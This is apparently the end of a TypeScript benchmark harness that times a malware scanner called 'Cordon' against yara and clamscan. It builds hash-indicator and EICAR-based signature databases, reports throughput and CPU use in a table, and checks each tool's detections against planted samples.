    writeFileSync(rulesFile, `${builtInRules()}\n${TEAM_PACK}`);

    // The same hashes: one planted among INDICATORS; for clamscan as an .hsb, and the literals as an .ndb.
    const decoys = Array.from({ length: INDICATORS - 1 }, (_, i) => ({ sha256: createHash('sha256').update(`decoy-${SEED}-${i}`).digest('hex'), size: 1000 + i * 37 }));
    const hashes = [...decoys.slice(0, INDICATORS >> 1), c.indicator, ...decoys.slice(INDICATORS >> 1)];
    const indicators: IndicatorEntry[] = hashes.map((h, i) => ({ id: String(i + 1), value: h.sha256, type: 'FileSha256', action: 'Alert', severity: 'High', title: h === c.indicator ? 'bench dropper' : `decoy ${i}`, generateAlert: true, expirationTime: null }));
    const db = join(work, 'clamav');
    mkdirSync(db);
    writeFileSync(join(db, 'cordon.hsb'), hashes.map((h, i) => `${h.sha256}:${h.size}:Cordon.Indicator.${i + 1}\n`).join(''));
    writeFileSync(join(db, 'cordon.ndb'), `Cordon.EICAR:0:*:${EICAR.toString('hex')}\nCordon.Team_Marker:0:*:${Buffer.from(TEAM_MARKER).toString('hex')}\n`);
    const empty = join(work, 'empty');
    mkdirSync(empty);

    const step = async <T extends Run>(p: Promise<T>) => {
      const r = await p;
      log(`  ${r.name}: ${r.seconds.toFixed(1)} s, ${(c.bytes / 1e6 / r.seconds).toFixed(0)} MB/s, CPU ${((r.cpu / r.seconds / CORES) * 100).toFixed(0)} % (${r.cpu.toFixed(1)} CPU s)`);
      return r;
    };

    // A warm page cache for everyone: the whole corpus read once before anything is timed.
    const files = listFiles(c.root);
    const loadBefore = readFileSync('/proc/loadavg', 'utf8').split(' ').slice(0, 3).join(' ');
    const tw = performance.now();
    const warm = await part('warm-up read', files, (f) => readAll(f.path, f.size));
    log(`warm-up: read ${files.length} files in ${warm.seconds.toFixed(1)} s`);

    if (ONLY === 'cordon') {
      for (const cap of [1, CAP]) {
        const r = await step(cordonRun(`Cordon, cap ${cap * 100} %`, cap, rules, indicators, c.root, work));
        log(`    ${r.files} files, ${r.members} members, main thread busy ${((r.mainBusy ?? 0) * 100).toFixed(0)} %`);
      }
      return;
    }
    const clamLoad = await clamscanRun(db, empty, 'clamscan on an empty directory (database load)');
    const yaraLoad = await yaraRun(rulesFile, empty, 'yara on an empty directory (rule compile)');
    const cordon1 = await step(cordonRun('Cordon, uncapped (1)', 1, rules, indicators, c.root, work));
    const yara1 = await step(yaraRun(rulesFile, c.root, 'yara (1)'));
    const clam = await step(clamscanRun(db, c.root));
    const yara2 = await step(yaraRun(rulesFile, c.root, 'yara (2)'));
    const cordon2 = await step(cordonRun('Cordon, uncapped (2)', 1, rules, indicators, c.root, work));
    const capped = await step(cordonRun(`Cordon, ${CAP * 100} % cap`, CAP, rules, indicators, c.root, work));
    // yara's work and no more, plus the hashes: the like-for-like line (the detections in archives are missed, as yara misses them).
    const flat = await step(cordonRun('Cordon, archives not opened (what yara does, plus hashes and the index)', 1, rules, indicators, c.root, work, { ...DEFAULT_SCAN_LIMITS.archives, maxDepth: 0 }));
    const parts = [flat, await step(part(`read only (the floor: every file read, ${CONCURRENCY} at a time)`, files, (f) => readAll(f.path, f.size)))];
    log(`(all runs: ${((performance.now() - tw) / 1000).toFixed(0)} s)`);

    const cordon = cordon1.seconds <= cordon2.seconds ? cordon1 : cordon2;
    const yara = yara1.seconds <= yara2.seconds ? yara1 : yara2;
    const bytesOf = (r: Run) => r.of?.bytes ?? c.bytes;
    const mbps = (r: Run) => bytesOf(r) / 1e6 / r.seconds;
    const cpuPct = (r: Run) => (r.cpu / r.seconds / CORES) * 100;
    const row = (r: Run, ratios = true) =>
      `| ${r.name} | ${r.seconds.toFixed(2)} s | ${mbps(r).toFixed(0)} | ${((r.of?.files ?? c.files) / r.seconds).toFixed(0)} | ${cpuPct(r).toFixed(1)} % | ${r.cpu.toFixed(2)} s | ${(bytesOf(r) / 1e6 / r.cpu).toFixed(0)} | ${r.mainBusy === undefined ? '' : `${(r.mainBusy * 100).toFixed(0)} %`} | ${r.peakRssMb ? `${r.peakRssMb.toFixed(0)} MB` : ''} | ${ratios ? `${(clam.seconds / r.seconds).toFixed(1)}×` : ''} | ${ratios ? `${(yara.seconds / r.seconds).toFixed(2)}×` : ''} |`;
    const cpuModel = cpus()[0]?.model ?? 'unknown CPU';
    const kinds = Object.entries(c.byKind)
      .map(([k, v]) => `${k} ${v.files} files / ${(v.bytes / 1e6).toFixed(0)} MB`)
      .join(', ');
    const lines = [
      `${new Date().toISOString()}; ${CORES} cores (${cpuModel}), concurrency ${CONCURRENCY} (yara -p ${CONCURRENCY}); load average before the runs ${loadBefore}`,
      `corpus: ${c.files} files, ${(c.bytes / 1e6).toFixed(0)} MB (${kinds}); ${INDICATORS} SHA-256 indicators; ${compiled.ruleCount} rules`,
      '',
      `| run | wall | MB/s | files/s | CPU (of ${CORES} cores) | CPU time | MB per CPU-second | main thread busy | peak RSS | clamscan time ÷ this | yara time ÷ this |`,
      '| --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- |',
      row(cordon1),
      row(cordon2),
      row(capped),
      row(yara1),
      row(yara2),
      row(clam),
      row(clamLoad, false),
      row(yaraLoad, false),
      row(flat),
      row(parts[1]!, false),
    ];
    process.stdout.write(`${lines.join('\n')}\n`);
    log(`Cordon: ${cordon.files} files, ${(cordon.bytes / 1e6).toFixed(0)} MB, ${cordon.members} archive members scanned; skipped: ${JSON.stringify(cordon.skipped)}; the pacer measured ${(capped.pacerUsed * 100).toFixed(1)} % at the cap`);
    for (const r of [cordon1, cordon2, capped, yara1, yara2, clam, clamLoad, yaraLoad, ...parts]) for (const n of r.notes) log(`  ${r.name}: ${n}`);

    // Detections: what each tool found, against what was planted.
    let agree = true;
    log('\ndetections (planted → Cordon | yara | clamscan):');
    for (const p of c.planted) {
      const cf = cordon.found.get(p.path) ?? [];
      const yf = yara.found.get(p.path) ?? [];
      const kf = clam.found.get(p.path) ?? [];
      const ok = cf.some((x) => x.startsWith(p.cordon)) && capped.found.has(p.path) && yf.length > 0 === p.yara && kf.length > 0 === p.clamscan;
      agree &&= ok;
      log(`  ${ok ? 'ok ' : 'BAD'} ${p.what}: ${p.path.slice(c.root.length + 1)} → ${cf.join(', ') || '-'} | ${yf.join(', ') || '-'} | ${kf.join(', ') || '-'}`);
    }
    const planted = new Set(c.planted.map((p) => p.path));
    for (const r of [cordon, capped, yara, clam]) {
      for (const [path, names] of r.found) {
        if (planted.has(path)) continue;
        agree = false;
        log(`  BAD ${r.name} found what was not planted: ${path} → ${names.join(', ')}`);
      }
    }
    if (!agree) process.exitCode = 1;

    const vsClam = clam.seconds / cordon.seconds;
    const vsYara = yara.seconds / cordon.seconds;
    const capPct = cpuPct(capped);
    // The cap is only put to the test when the uncapped run used clearly more than it.
    const binding = cpuPct(cordon) > CAP * 100 + 10;
    process.stdout.write(
      `RESULT: ${(c.bytes / 1e9).toFixed(2)} GB, ${c.files} files: Cordon ${mbps(cordon).toFixed(0)} MB/s, ${(c.files / cordon.seconds).toFixed(0)} files/s uncapped (CPU ${cpuPct(cordon).toFixed(0)} %, ${cordon.cpu.toFixed(1)} CPU s); ${vsClam.toFixed(1)}x clamscan (target >= 10: ${vsClam >= 10 ? 'met' : 'NOT met'}; ${(clam.cpu / cordon.cpu).toFixed(1)}x in CPU time), ${vsYara.toFixed(2)}x yara (target >= 1: ${vsYara >= 1 ? 'met' : 'NOT met'}; ${(yara.cpu / cordon.cpu).toFixed(2)}x in CPU time); at the ${CAP * 100} % cap ${mbps(capped).toFixed(0)} MB/s with CPU ${capPct.toFixed(1)} % (target ${CAP * 100} +- 10: ${Math.abs(capPct - CAP * 100) <= 10 ? 'met' : 'NOT met'}${binding ? '' : `, but the cap did not bind: uncapped used ${cpuPct(cordon).toFixed(0)} %`}); detections ${agree ? 'agree' : 'DISAGREE'}\n`,
    );
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
}

await main();
